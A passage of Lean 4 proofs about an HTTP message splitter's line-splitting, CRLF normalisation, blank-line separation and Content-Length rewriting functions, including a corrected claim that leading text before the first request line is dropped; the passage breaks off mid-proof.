theorem splitNl_ne_nil (x : List Char) : splitNl x ≠ [] := by
  cases x with
  | nil => simp [splitNl]
  | cons c rest =>
    by_cases hc : c = '\n'
    · simp [splitNl, hc]
    · simp only [splitNl, hc, if_false]
      cases splitNl rest <;> simp

/-- Lines produced by `splitNl` contain no `'\n'`. -/
theorem mem_splitNl_no_nl : ∀ (x : List Char) (l : List Char),
    l ∈ splitNl x → '\n' ∉ l := by
  intro x
  induction x with
  | nil =>
    intro l hl
    simp [splitNl] at hl
    simp [hl]
  | cons c rest ih =>
    intro l hl
    by_cases hc : c = '\n'
    · simp only [splitNl, hc, if_true] at hl
      rcases List.mem_cons.mp hl with h | h
      · simp [h]
      · exact ih l h
    · simp only [splitNl, hc, if_false] at hl
      cases hsp : splitNl rest with
      | nil => exact absurd hsp (splitNl_ne_nil rest)
      | cons l2 ls =>
        rw [hsp] at hl
        rcases List.mem_cons.mp hl with h | h
        · subst h
          intro hmem
          rcases List.mem_cons.mp hmem with h2 | h2
          · exact hc h2.symm
          · exact ih l2 (by rw [hsp]; exact List.mem_cons_self l2 ls) h2
        · exact ih l (by rw [hsp]; exact List.mem_cons.mpr (Or.inr h))

/-- With a bound in range, `getD` is the element itself. -/
theorem getD_eq_getElem_of_lt {α : Type} (l : List α) (n : Nat) (d : α)
    (h : n < l.length) : l.getD n d = l[n] := by
  simp [List.getD_eq_getElem?_getD, List.getElem?_eq_getElem h]

/-- An in-range `getD` is a member. -/
theorem getD_mem_of_lt {α : Type} (l : List α) (n : Nat) (d : α)
    (h : n < l.length) : l.getD n d ∈ l := by
  rw [getD_eq_getElem_of_lt _ _ _ h]
  exact l.get_mem n h

/-- The empty line matches no request-line pattern. -/
theorem matchesRequestLine_nil : matchesRequestLine [] = false := by decide

/-- Shape of one block: it begins with its request line. -/
theorem block_shape (lines : List (List Char)) (s e : Nat)
    (hs : s < lines.length) (hse : s < e)
    (hanl : '\n' ∉ lines.getD s []) (hane : lines.getD s [] ≠ []) :
    ∃ y, stripNlEnds (interNl ((lines.drop s).take (e - s))) =
      lines.getD s [] ++ y := by
  have hdrop : lines.drop s = lines.getD s [] :: lines.drop (s + 1) := by
    rw [List.drop_eq_getElem_cons hs, getD_eq_getElem_of_lt _ _ _ hs]
  obtain ⟨k, hk⟩ : ∃ k, e - s = k + 1 := ⟨e - s - 1, by omega⟩
  rw [hdrop, hk, List.take_succ_cons, interNl_cons]
  have hall : ∀ x ∈ lines.getD s [], (fun c => c = '\n' : Char → Bool) x = false := by
    intro x hx
    simp only [decide_eq_false_iff_not]
    intro h
    exact hanl (h ▸ hx)
  exact pyStripWith_append_keep _ _ hane hall

/-- One unfolding of `blocksFrom` when the head block is nonempty. -/
theorem blocksFrom_cons_of_ne (lines : List (List Char)) (s : Nat) (rest : List Nat)
    (hbne : stripNlEnds (interNl ((lines.drop s).take
      (nextBoundary lines rest - s))) ≠ []) :
    blocksFrom lines (s :: rest) =
      stripNlEnds (interNl ((lines.drop s).take
        (nextBoundary lines rest - s))) ::
      blocksFrom lines rest := by
  simp only [blocksFrom]
  rw [if_neg (by exact hbne)]
  rfl

/-- The spine of `split_messages` with more than one request line: one
nonempty block per index, each beginning with its request line, and the
blocks jointly covering (up to whitespace) the lines from the first request
line on. -/
theorem blocksFrom_spec (lines : List (List Char))
    (hnl : ∀ l ∈ lines, '\n' ∉ l) :
    ∀ idxs : List Nat, List.Pairwise (· < ·) idxs →
    (∀ i ∈ idxs, i < lines.length ∧ matchesRequestLine (lines.getD i []) = true) →
    (blocksFrom lines idxs).length = idxs.length ∧
    (∀ k s, idxs.get? k = some s →
      ∃ block, (blocksFrom lines idxs).get? k = some block ∧
        ∃ y, block = lines.getD s [] ++ y) ∧
    (∀ s0 rest, idxs = s0 :: rest →
      ((blocksFrom lines idxs).map (List.filter (fun c => !isPySpace c))).flatten =
        ((lines.drop s0).map (List.filter (fun c => !isPySpace c))).flatten) := by
  intro idxs
  induction idxs with
  | nil =>
    intro _ _
    refine ⟨rfl, ?_, ?_⟩
    · intro k s h; simp at h
    · intro s0 rest h; cases h
  | cons s rest ih =>
    intro hpw hbound
    have hpwc := List.pairwise_cons.mp hpw
    have hs : s < lines.length := (hbound s (List.mem_cons_self s rest)).1
    have hmatch : matchesRequestLine (lines.getD s []) = true :=
      (hbound s (List.mem_cons_self s rest)).2
    have hane : lines.getD s [] ≠ [] := by
      intro h0
      rw [h0] at hmatch
      rw [matchesRequestLine_nil] at hmatch
      cases hmatch
    have hanl : '\n' ∉ lines.getD s [] := hnl _ (getD_mem_of_lt _ _ _ hs)
    have hrec := ih hpwc.2 (fun i hi => hbound i (List.mem_cons.mpr (Or.inr hi)))
    have hse : s < nextBoundary lines rest := by
      cases rest with
      | nil => exact hs
      | cons e rest2 => exact hpwc.1 e (List.mem_cons_self e rest2)
    obtain ⟨y, hy⟩ := block_shape lines s (nextBoundary lines rest) hs hse hanl hane
    have hbne : stripNlEnds (interNl ((lines.drop s).take
        (nextBoundary lines rest - s))) ≠ [] := by
      rw [hy]
      intro h0
      exact hane (List.append_eq_nil.mp h0).1
    have hunfold := blocksFrom_cons_of_ne lines s rest hbne
    refine ⟨?_, ?_, ?_⟩
    · rw [hunfold]
      simp [hrec.1]
    · intro k s2 hk
      cases k with
      | zero =>
        rw [List.get?_cons_zero] at hk
        injection hk with hk
        subst hk
        rw [hunfold, List.get?_cons_zero]
        exact ⟨_, rfl, y, hy⟩
      | succ k2 =>
        rw [List.get?_cons_succ] at hk
        obtain ⟨block, hb1, hb2⟩ := hrec.2.1 k2 s2 hk
        rw [hunfold, List.get?_cons_succ]
        exact ⟨block, hb1, hb2⟩
    · intro s0 rest0 heq
      injection heq with h1 h2
      subst h1
      subst h2
      rw [hunfold]
      rw [List.map_cons, List.flatten_cons]
      have hblockfilter :
          (stripNlEnds (interNl ((lines.drop s).take
            (nextBoundary lines rest - s)))).filter
              (fun c => !isPySpace c) =
          (((lines.drop s).take
            (nextBoundary lines rest - s)).map
              (List.filter (fun c => !isPySpace c))).flatten := by
        unfold stripNlEnds
        rw [filter_pyStripWith (by intro c hc; simp at hc; simp [hc, isPySpace]),
          filter_interNl (by simp [isPySpace])]
      rw [hblockfilter]
      cases rest with
      | nil =>
        have htake : (lines.drop s).take (lines.length - s) = lines.drop s := by
          apply List.take_of_length_le
          simp
        simp [blocksFrom, nextBoundary, htake]
      | cons e rest2 =>
        have hcov := hrec.2.2 e rest2 rfl
        simp only [nextBoundary]
        rw [hcov]
        have hchunk : (lines.drop s).take (e - s) ++ lines.drop e = lines.drop s := by
          have hde : lines.drop e = (lines.drop s).drop (e - s) := by
            rw [List.drop_drop]
            congr 1
            have : s < e := hpwc.1 e (List.mem_cons_self e rest2)
            omega
          rw [hde, List.take_append_drop]
        calc (((lines.drop s).take (e - s)).map
                (List.filter (fun c => !isPySpace c))).flatten ++
              ((lines.drop e).map (List.filter (fun c => !isPySpace c))).flatten
            = ((((lines.drop s).take (e - s)) ++ lines.drop e).map
                (List.filter (fun c => !isPySpace c))).flatten := by
              rw [List.map_append, List.flatten_append]
          _ = ((lines.drop s).map (List.filter (fun c => !isPySpace c))).flatten := by
              rw [hchunk]

/-- The collected request-line indices are strictly increasing. -/
theorem requestLineIdxs_pairwise (lines : List (List Char)) :
    List.Pairwise (· < ·) (requestLineIdxs lines) :=
  (List.pairwise_lt_range lines.length).filter _

/-- Every collected index is in range and points at a matching line. -/
theorem requestLineIdxs_bound (lines : List (List Char)) :
    ∀ i ∈ requestLineIdxs lines,
      i < lines.length ∧ matchesRequestLine (lines.getD i []) = true := by
  intro i hi
  have h := List.mem_filter.mp hi
  exact ⟨List.mem_range.mp h.1, h.2⟩

/-- C4 (amended): with more than one request line, `split_messages` returns
exactly one block per request line, each block beginning with its request
line — but the concatenation of the blocks covers (up to whitespace) only
the text from the FIRST request line onwards: anything before it is
discarded, not included. -/
theorem splitMessages_multiple_request_lines (raw : String)
    (h2 : 2 ≤ (requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data)))).length) :
    (splitMessages raw).length =
      (requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data)))).length ∧
    (∀ k s,
      (requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data)))).get? k = some s →
      matchesRequestLine
        ((splitNl (normalizeNl (stripNlCrSp raw.data))).getD s []) = true ∧
      ∃ block, (splitMessages raw).get? k = some block ∧
        ((splitNl (normalizeNl (stripNlCrSp raw.data))).getD s []).isPrefixOf
          block.data = true) ∧
    (∀ s0 rest0,
      requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data))) = s0 :: rest0 →
      ((splitMessages raw).map
        (fun b => b.data.filter (fun c => !isPySpace c))).flatten =
      (((splitNl (normalizeNl (stripNlCrSp raw.data))).drop s0).map
        (List.filter (fun c => !isPySpace c))).flatten) := by
  have htext : stripNlCrSp raw.data ≠ [] := by
    intro h0
    rw [h0] at h2
    have hempty : requestLineIdxs (splitNl (normalizeNl [])) = [] := rfl
    rw [hempty] at h2
    simp at h2
  have hspec := blocksFrom_spec (splitNl (normalizeNl (stripNlCrSp raw.data)))
    (mem_splitNl_no_nl _)
    (requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data))))
    (requestLineIdxs_pairwise _)
    (requestLineIdxs_bound _)
  have hsm : splitMessages raw =
      (blocksFrom (splitNl (normalizeNl (stripNlCrSp raw.data)))
        (requestLineIdxs (splitNl (normalizeNl (stripNlCrSp raw.data))))).map
        (fun b => (⟨b⟩ : String)) := by
    unfold splitMessages
    rw [if_neg htext, if_neg (by omega)]
  refine ⟨?_, ?_, ?_⟩
  · rw [hsm, List.length_map, hspec.1]
  · intro k s hk
    obtain ⟨block, hb1, y, hb2⟩ := hspec.2.1 k s hk
    have hmatch := (requestLineIdxs_bound _ s (by
      exact List.get?_mem hk)).2
    refine ⟨hmatch, ⟨block⟩, ?_, ?_⟩
    · rw [hsm, List.get?_map, hb1]
      rfl
    · rw [List.isPrefixOf_iff_prefix]
      show (splitNl (normalizeNl (stripNlCrSp raw.data))).getD s [] <+: block
      rw [hb2]
      exact ⟨y, rfl⟩
  · intro s0 rest0 heq
    obtain hcov := hspec.2.2 s0 rest0 heq
    rw [hsm, List.map_map]
    exact hcov

/-- C4 witness: two request lines on a concrete raw output. -/
theorem splitMessages_multiple_request_lines_witness :
    (splitMessages "GET /a HTTP/1.1\nGET /b HTTP/1.1").length =
      (requestLineIdxs (splitNl (normalizeNl
        (stripNlCrSp "GET /a HTTP/1.1\nGET /b HTTP/1.1".data)))).length ∧
    (requestLineIdxs (splitNl (normalizeNl
      (stripNlCrSp "GET /a HTTP/1.1\nGET /b HTTP/1.1".data)))).length = 2 :=
  ⟨(splitMessages_multiple_request_lines "GET /a HTTP/1.1\nGET /b HTTP/1.1"
      (by decide)).1,
   rfl⟩

/-- C4 (corrected, counterexample): text preceding the first request line is
dropped, so the blocks do not cover the whole original text — `junk` appears
in no block. -/
theorem splitMessages_drops_leading_text :
    splitMessages "junk\nGET /a HTTP/1.1\nGET /b HTTP/1.1" =
      ["GET /a HTTP/1.1", "GET /b HTTP/1.1"] ∧
    ((splitMessages "junk\nGET /a HTTP/1.1\nGET /b HTTP/1.1").map
      (fun b => b.data.filter (fun c => !isPySpace c))).flatten ≠
      "junk\nGET /a HTTP/1.1\nGET /b HTTP/1.1".data.filter
        (fun c => !isPySpace c) :=
  ⟨rfl, by decide⟩


/-- Two-step induction principle matching `replaceCRLF`/`splitSep`. -/
theorem twoStepInduction {motive : List Char → Prop}
    (nil : motive [])
    (single : ∀ c, motive [c])
    (cons2 : ∀ c c2 rest, motive rest → motive (c2 :: rest) →
      motive (c :: c2 :: rest)) :
    ∀ l, motive l
  | [] => nil
  | [c] => single c
  | c :: c2 :: rest =>
    cons2 c c2 rest (twoStepInduction nil single cons2 rest)
      (twoStepInduction nil single cons2 (c2 :: rest))

/-- Substring containment as an explicit decomposition. -/
theorem containsSub_iff (pat : List Char) :
    ∀ l : List Char, containsSub pat l = true ↔ ∃ a b, l = a ++ pat ++ b := by
  intro l
  induction l with
  | nil =>
    rw [containsSub]
    constructor
    · intro h
      have : pat = [] := by
        cases pat with
        | nil => rfl
        | cons p ps => simp [List.isPrefixOf] at h
      exact ⟨[], [], by simp [this]⟩
    · rintro ⟨a, b, hab⟩
      have := List.append_eq_nil.mp hab.symm
      have h2 := List.append_eq_nil.mp this.1
      simp [h2.2, List.isPrefixOf]
  | cons c rest ih =>
    rw [containsSub, Bool.or_eq_true, List.isPrefixOf_iff_prefix]
    constructor
    · rintro (⟨t, ht⟩ | h)
      · exact ⟨[], t, by simp [← ht]⟩
      · obtain ⟨a, b, hab⟩ := ih.mp h
        exact ⟨c :: a, b, by simp [hab]⟩
    · rintro ⟨a, b, hab⟩
      cases a with
      | nil =>
        left
        exact ⟨b, by simpa using hab.symm⟩
      | cons a0 a2 =>
        right
        apply ih.mpr
        refine ⟨a2, b, ?_⟩
        have hab2 := hab
        simp only [List.cons_append] at hab2
        injection hab2 with h1 h2

/-- Without any CRLF pair, the CRLF replacement is the identity. -/
theorem replaceCRLF_eq_self : ∀ l : List Char,
    containsSub ['\x0d', '\n'] l = false → replaceCRLF l = l := by
  intro l
  induction l using twoStepInduction with
  | nil => intro _; rfl
  | single c => intro _; rfl
  | cons2 c c2 rest ih1 ih2 =>
    intro h
    rw [containsSub, Bool.or_eq_false_iff] at h
    obtain ⟨h1, h2⟩ := h
    have hcr : ¬(c = '\x0d' ∧ c2 = '\n') := by
      rintro ⟨rfl, rfl⟩
      simp [List.isPrefixOf] at h1
    rw [replaceCRLF, if_neg hcr, ih2 h2]

/-- The lone-CR replacement is a character map. -/
theorem replaceCR_eq_map (l : List Char) :
    replaceCR l = l.map (fun c => if c = '\x0d' then '\n' else c) := by
  induction l with
  | nil => rfl
  | cons c rest ih => rw [replaceCR, List.map_cons, ih]

/-- Without any CR, the lone-CR replacement is the identity. -/
theorem replaceCR_eq_self (l : List Char) (h : ∀ c ∈ l, c ≠ '\x0d') :
    replaceCR l = l := by
  rw [replaceCR_eq_map]
  conv_rhs => rw [← List.map_id l]
  apply List.map_congr_left
  intro c hc
  simp [h c hc]

/-- The lone-CR replacement leaves no CR behind. -/
theorem replaceCR_no_cr (l : List Char) : ∀ c ∈ replaceCR l, c ≠ '\x0d' := by
  rw [replaceCR_eq_map]
  intro c hc
  obtain ⟨a, _, ha⟩ := List.mem_map.mp hc
  by_cases h : a = '\x0d'
  · rw [h] at ha; simp at ha; rw [← ha]; decide
  · rw [if_neg h] at ha; rw [← ha]; exact h

/-- A CR-free text contains no CRLF pair. -/
theorem containsSub_crlf_eq_false (l : List Char) (h : ∀ c ∈ l, c ≠ '\x0d') :
    containsSub ['\x0d', '\n'] l = false := by
  by_cases hc : containsSub ['\x0d', '\n'] l = true
  · obtain ⟨a, b, hab⟩ := (containsSub_iff _ l).mp hc
    exfalso
    refine h '\x0d' ?_ rfl
    rw [hab]
    simp
  · simpa using hc

/-- A contained pattern survives appending on the left. -/
theorem containsSub_append_right (pat : List Char) (b : List Char)
    (h : containsSub pat b = true) :
    ∀ a : List Char, containsSub pat (a ++ b) = true := by
  intro a
  obtain ⟨x, y, hxy⟩ := (containsSub_iff _ b).mp h
  exact (containsSub_iff _ _).mpr ⟨a ++ x, y, by simp [hxy]⟩

/-- The blank-line pattern survives the lone-CR replacement. -/
theorem containsSub_sep_replaceCR (l : List Char)
    (h : containsSub ['\n', '\n'] l = true) :
    containsSub ['\n', '\n'] (replaceCR l) = true := by
  obtain ⟨a, b, hab⟩ := (containsSub_iff _ l).mp h
  apply (containsSub_iff _ _).mpr
  rw [hab, replaceCR_eq_map]
  exact ⟨a.map (fun c => if c = '\x0d' then '\n' else c),
         b.map (fun c => if c = '\x0d' then '\n' else c), by simp⟩

/-- `splitSep` finds nothing exactly when there is no blank line. -/
theorem splitSep_eq_none_iff : ∀ l : List Char,
    splitSep l = none ↔ containsSub ['\n', '\n'] l = false := by
  intro l
  induction l using twoStepInduction with
  | nil => simp [splitSep, containsSub, List.isPrefixOf]
  | single c => simp [splitSep, containsSub, List.isPrefixOf]
  | cons2 c c2 rest ih1 ih2 =>
    rw [splitSep, containsSub]
    by_cases h : c = '\n' ∧ c2 = '\n'
    · obtain ⟨rfl, rfl⟩ := h
      simp [List.isPrefixOf]
    · rw [if_neg h]
      have hpre : ['\n', '\n'].isPrefixOf (c :: c2 :: rest) = false := by
        simp only [List.isPrefixOf, Bool.and_eq_false_iff]
        by_cases hc : c = '\n'
        · subst hc
          right
          left
          simp [beq_eq_false_iff_ne]
          intro hh
          exact h ⟨rfl, hh.symm⟩
        · left
          simp [beq_eq_false_iff_ne]
          intro hh
          exact hc hh.symm
      rw [hpre]
      simp only [Bool.false_or]
      rw [← ih2]
      constructor
      · intro hm
        cases hsp : splitSep (c2 :: rest) with
        | none => rfl
        | some hb => rw [hsp] at hm; simp at hm
      · intro hm
        rw [hm]
        rfl

/-- What a successful `splitSep` yields: the minimal head before the first
blank line. -/
theorem splitSep_some_spec : ∀ (l h b : List Char),
    splitSep l = some (h, b) →
    l = h ++ '\n' :: '\n' :: b ∧ containsSub ['\n', '\n'] h = false ∧
      h.getLast? ≠ some '\n' := by
  intro l
  induction l using twoStepInduction with
  | nil => intro h b hk; simp [splitSep] at hk
  | single c => intro h b hk; simp [splitSep] at hk
  | cons2 c c2 rest ih1 ih2 =>
    intro h b hk
    rw [splitSep] at hk
    by_cases hc : c = '\n' ∧ c2 = '\n'
    · rw [if_pos hc] at hk
      injection hk with hk
      injection hk with hk1 hk2
      obtain ⟨rfl, rfl⟩ := hc
      subst hk1
      subst hk2
      refine ⟨rfl, rfl, by simp⟩
    · rw [if_neg hc] at hk
      cases hsp : splitSep (c2 :: rest) with
      | none => rw [hsp] at hk; simp at hk
      | some hb2 =>
        rw [hsp] at hk
        simp only [Option.map_some'] at hk
        injection hk with hk
        injection hk with hk1 hk2
        obtain ⟨h1, h2, h3⟩ := ih2 hb2.1 hb2.2 (by rw [hsp])
        subst hk2
        rw [← hk1]
        refine ⟨by rw [List.cons_append, ← h1], ?_, ?_⟩
        · rw [containsSub, Bool.or_eq_false_iff]
          refine ⟨?_, h2⟩
          by_cases hcnl : c = '\n'
          · subst hcnl
            cases hhb : hb2.1 with
            | nil =>
              rw [hhb] at h1
              injection h1 with h1a h1b
              exact absurd ⟨rfl, h1a⟩ hc
            | cons d ds =>
              rw [hhb] at h1
              injection h1 with h1a h1b
              have hdne : ¬ ('\n' : Char) = d := by
                intro hh
                exact hc ⟨rfl, h1a.trans hh.symm⟩
              simp only [hhb, List.isPrefixOf, Bool.and_eq_false_iff]
              right
              left
              simp [beq_eq_false_iff_ne]
              exact hdne
          · cases hb2.1 with
            | nil => simp [List.isPrefixOf]
            | cons d ds =>
              simp only [List.isPrefixOf, Bool.and_eq_false_iff]
              left
              simp [beq_eq_false_iff_ne]
              intro hh
              exact hcnl hh.symm
        · cases hhb : hb2.1 with
          | nil =>
            rw [hhb] at h1
            injection h1 with h1a h1b
            have hcne : ¬ c = '\n' := fun hh => hc ⟨hh, h1a⟩
            simp [hhb, hcne]
          | cons d ds =>
            rw [List.getLast?_cons_cons]
            first
            | exact h3
            | (rw [hhb] at h3; exact h3)

/-- Reattaching a blank line after a clean head is found at that head. -/
theorem splitSep_append : ∀ (h b : List Char),
    containsSub ['\n', '\n'] h = false → h.getLast? ≠ some '\n' →
    splitSep (h ++ '\n' :: '\n' :: b) = some (h, b) := by
  intro h
  induction h using twoStepInduction with
  | nil => intro b _ _; simp [splitSep]
  | single c =>
    intro b _ hlast
    have hc : ¬ c = '\n' := by simpa using hlast
    rw [List.cons_append, List.nil_append, splitSep,
      if_neg (by rintro ⟨rfl, _⟩; exact hc rfl)]
    rw [splitSep, if_pos ⟨rfl, rfl⟩]
    rfl
  | cons2 c c2 rest ih1 ih2 =>
    intro b hsep hlast
    rw [containsSub, Bool.or_eq_false_iff] at hsep
    obtain ⟨hpre, hsep2⟩ := hsep
    have hcc : ¬(c = '\n' ∧ c2 = '\n') := by
      rintro ⟨rfl, rfl⟩
      simp [List.isPrefixOf] at hpre
    have hlast2 : (c2 :: rest).getLast? ≠ some '\n' := by
      rw [List.getLast?_cons] at hlast
      intro hcon
      apply hlast
      rw [hcon]
      rfl
    have hshape : (c :: c2 :: rest) ++ '\n' :: '\n' :: b =
        c :: c2 :: (rest ++ '\n' :: '\n' :: b) := rfl
    rw [hshape, splitSep]
    rw [if_neg (by rintro ⟨rfl, rfl⟩; exact hcc ⟨rfl, rfl⟩)]
    have hrec : splitSep ((c2 :: rest) ++ '\n' :: '\n' :: b) = some (c2 :: rest, b) :=
      ih2 b hsep2 hlast2
    rw [show c2 :: (rest ++ '\n' :: '\n' :: b) =
      (c2 :: rest) ++ '\n' :: '\n' :: b from rfl, hrec]
    rfl

/-- Joining the lines of a split gives back the text. -/
theorem interNl_splitNl : ∀ x : List Char, interNl (splitNl x) = x := by
  intro x
  induction x with
  | nil => rfl
  | cons c rest ih =>
    by_cases hc : c = '\n'
    · subst hc
      have hsp : splitNl ('\n' :: rest) = [] :: splitNl rest := by
        rw [splitNl]
        simp
      rw [hsp, interNl_cons, if_neg (splitNl_ne_nil rest), List.nil_append, ih]
    · rw [splitNl]
      simp only [hc, if_false]
      cases hsp : splitNl rest with
      | nil => exact absurd hsp (splitNl_ne_nil rest)
      | cons l ls =>
        rw [hsp] at ih
        cases ls with
        | nil =>
          rw [interNl] at ih ⊢
          rw [ih]
        | cons l2 ls2 =>
          rw [interNl_cons, if_neg (by simp)] at ih
          rw [interNl_cons, if_neg (by simp), List.cons_append, ih]

/-- A newline-free text is a single line. -/
theorem splitNl_of_no_nl : ∀ l : List Char, '\n' ∉ l → splitNl l = [l] := by
  intro l
  induction l with
  | nil => intro _; rfl
  | cons c rest ih =>
    intro h
    have hc : ¬ c = '\n' := fun hh => h (hh ▸ List.mem_cons_self c rest)
    rw [splitNl]
    simp only [hc, if_false]
    rw [ih (fun hh => h (List.mem_cons.mpr (Or.inr hh)))]

/-- Splitting after appending one separator and a tail. -/
theorem splitNl_append_nl : ∀ (l t : List Char), '\n' ∉ l →
    splitNl (l ++ '\n' :: t) = l :: splitNl t := by
  intro l
  induction l with
  | nil =>
    intro t _
    rw [List.nil_append, splitNl]
    simp
  | cons c l2 ih =>
    intro t h
    have hc : ¬ c = '\n' := fun hh => h (hh ▸ List.mem_cons_self c l2)
    rw [List.cons_append, splitNl]
    simp only [hc, if_false]
    rw [ih t (fun hh => h (List.mem_cons.mpr (Or.inr hh)))]

/-- Splitting the join of newline-free lines gives the lines back. -/
theorem splitNl_interNl : ∀ ls : List (List Char), ls ≠ [] →
    (∀ l ∈ ls, '\n' ∉ l) → splitNl (interNl ls) = ls := by
  intro ls
  induction ls with
  | nil => intro h; exact absurd rfl h
  | cons l ls2 ih =>
    intro _ hnl
    cases ls2 with
    | nil =>
      rw [interNl]
      exact splitNl_of_no_nl l (hnl l (List.mem_cons_self _ _))
    | cons l2 ls3 =>
      rw [interNl_cons, if_neg (by simp)]
      rw [splitNl_append_nl l _ (hnl l (List.mem_cons_self _ _))]
      rw [ih (by simp) (fun x hx => hnl x (List.mem_cons.mpr (Or.inr hx)))]

/-- When the join of lines is empty. -/
theorem interNl_eq_nil_iff : ∀ ls : List (List Char),
    interNl ls = [] ↔ ls = [] ∨ ls = [[]] := by
  intro ls
  match ls with
  | [] => simp [interNl]
  | [l] =>
    rw [interNl]
    constructor
    · intro h; right; rw [h]
    · rintro (h | h)
      · cases h
      · injection h with h1
  | l :: l2 :: rest =>
    rw [interNl_cons, if_neg (by simp)]
    simp

/-- A character of a line is a character of the join. -/
theorem mem_interNl_of_mem : ∀ (ls : List (List Char)) (l : List Char) (c : Char),
    l ∈ ls → c ∈ l → c ∈ interNl ls := by
  intro ls
  induction ls with
  | nil => intro l c h; simp at h
  | cons a ls2 ih =>
    intro l c hl hc
    rw [interNl_cons]
    rcases List.mem_cons.mp hl with h | h
    · subst h
      exact List.mem_append.mpr (Or.inl hc)
    · by_cases hni : ls2 = []
      · subst hni; simp at h
      · rw [if_neg hni]
        exact List.mem_append.mpr (Or.inr (List.mem_cons.mpr (Or.inr (ih l c h hc))))

/-- Every character of the join is a newline or from some line. -/
theorem mem_interNl : ∀ (ls : List (List Char)) (c : Char),
    c ∈ interNl ls → c = '\n' ∨ ∃ l ∈ ls, c ∈ l := by
  intro ls
  induction ls with
  | nil => intro c h; simp [interNl] at h
  | cons a ls2 ih =>
    intro c h
    rw [interNl_cons] at h
    rcases List.mem_append.mp h with h | h
    · exact Or.inr ⟨a, List.mem_cons_self _ _, h⟩
    · by_cases hni : ls2 = []
      · rw [if_pos hni] at h; simp at h
      · rw [if_neg hni] at h
        rcases List.mem_cons.mp h with h | h
        · exact Or.inl h
        · rcases ih c h with h2 | ⟨l, hl, hc⟩
          · exact Or.inl h2
          · exact Or.inr ⟨l, List.mem_cons.mpr (Or.inr hl), hc⟩

/-- A character of a line of a split is a character of the text. -/
theorem mem_of_mem_splitNl (x l : List Char) (c : Char)
    (hl : l ∈ splitNl x) (hc : c ∈ l) : c ∈ x := by
  rw [← interNl_splitNl x]
  exact mem_interNl_of_mem _ l c hl hc

/-- The digit characters of base-10 rendering. -/
theorem digitChar_isDigit (k : Nat) (h : k < 10) :
    isAsciiDigit (Nat.digitChar k) = true := by
  interval_cases k <;> decide

/-- Characters produced by `Nat.toDigitsCore` in base 10 are digits or come
from the accumulator. -/
theorem toDigitsCore_mem : ∀ (fuel n : Nat) (ds : List Char) (c : Char),
    c ∈ Nat.toDigitsCore 10 fuel n ds → c ∈ ds ∨ isAsciiDigit c = true := by
  intro fuel
  induction fuel with
  | zero => intro n ds c h; exact Or.inl h
  | succ fuel ih =>
    intro n ds c h
    rw [Nat.toDigitsCore] at h
    by_cases hn : n / 10 = 0
    · rw [if_pos hn] at h
      rcases List.mem_cons.mp h with h | h
      · exact Or.inr (h ▸ digitChar_isDigit _ (Nat.mod_lt _ (by norm_num)))
      · exact Or.inl h
    · rw [if_neg hn] at h
      rcases ih (n / 10) _ c h with h2 | h2
      · rcases List.mem_cons.mp h2 with h3 | h3
        · exact Or.inr (h3 ▸ digitChar_isDigit _ (Nat.mod_lt _ (by norm_num)))
        · exact Or.inl h3
      · exact Or.inr h2

/-- A digit is neither a newline nor a carriage return. -/
theorem isAsciiDigit_ne (c : Char) (h : isAsciiDigit c = true) :
    c ≠ '\n' ∧ c ≠ '\x0d' := by
  constructor <;> rintro rfl <;> simp [isAsciiDigit] at h

/-- The decimal rendering of a `Nat` is all digits. -/
theorem toStringNat_isDigit (n : Nat) :
    ∀ c ∈ (toString n).data, isAsciiDigit c = true := by
  intro c hc
  have hd : (toString n).data = Nat.toDigits 10 n := rfl
  rw [hd, Nat.toDigits] at hc
  rcases toDigitsCore_mem _ _ _ _ hc with h | h
  · simp at h
  · exact h

/-- The rendered `Content-Length` line, split into its constant prefix and
its digits. -/
theorem clLine_eq (n : Nat) :
    clLine n = "Content-Length: ".data ++ (toString n).data := rfl

/-- The rendered `Content-Length` line is nonempty. -/
theorem clLine_ne_nil (n : Nat) : clLine n ≠ [] := by
  rw [clLine_eq]
  simp

/-- No newline and no carriage return in a rendered `Content-Length` line. -/
theorem clLine_no_nl_cr (n : Nat) :
    ∀ c ∈ clLine n, c ≠ '\n' ∧ c ≠ '\x0d' := by
  intro c hc
  rw [clLine_eq] at hc
  rcases List.mem_append.mp hc with h | h
  · constructor <;> rintro rfl <;> simp at h
  · exact isAsciiDigit_ne c (toStringNat_isDigit n c h)

/-- The rendered `Content-Length` line does not end in a newline. -/
theorem clLine_getLast_ne_nl (n : Nat) : (clLine n).getLast? ≠ some '\n' := by
  intro h
  obtain ⟨ys, hys⟩ := List.getLast?_eq_some_iff.mp h
  have : '\n' ∈ clLine n := by rw [hys]; simp
  exact (clLine_no_nl_cr n '\n' this).1 rfl

/-- The rendered line matches the rewriting loop's own search test. -/
theorem startsWithCLHeader_clLine (n : Nat) :
    startsWithCLHeader (clLine n) = true := by
  unfold startsWithCLHeader
  rw [clLine_eq, List.map_append]
  have hconst : "Content-Length: ".data.map Char.toLower = "content-length: ".data := by
    decide
  rw [hconst]
  rw [List.isPrefixOf_iff_prefix]
  have hsplit : "content-length: ".data =
      "content-length:".data ++ [' '] := by decide
  rw [hsplit, List.append_assoc]
  exact List.prefix_append _ _

/-- Membership of a rewritten line list: old line or the canonical line. -/
theorem replaceCL_mem (ls : List (List Char)) (n : Nat) :
    ∀ l ∈ (replaceCL ls n).1, l ∈ ls ∨ l = clLine n := by
  induction ls with
  | nil => intro l h; simp [replaceCL] at h
  | cons a rest ih =>
    intro l h
    rw [replaceCL] at h
    by_cases ha : startsWithCLHeader a
    · rw [if_pos ha] at h
      rcases List.mem_cons.mp h with h | h
      · exact Or.inr h
      · exact Or.inl (List.mem_cons.mpr (Or.inr h))
    · rw [if_neg ha] at h
      rcases List.mem_cons.mp h with h | h
      · exact Or.inl (h ▸ List.mem_cons_self a rest)
      · rcases ih l h with h2 | h2
        · exact Or.inl (List.mem_cons.mpr (Or.inr h2))
        · exact Or.inr h2

/-- A line matching the search test is nonempty. -/
theorem startsWithCLHeader_ne_nil (l : List Char)
    (h : startsWithCLHeader l = true) : l ≠ [] := by
  rintro rfl
  simp [startsWithCLHeader, List.isPrefixOf] at h

/-- The rewriting loop preserves each line's emptiness. -/
theorem replaceCL_map_isEmpty (ls : List (List Char)) (n : Nat) :
    (replaceCL ls n).1.map (fun l => l.isEmpty) =
      ls.map (fun l => l.isEmpty) := by
  induction ls with
  | nil => rfl
  | cons a rest ih =>
    rw [replaceCL]
    by_cases ha : startsWithCLHeader a
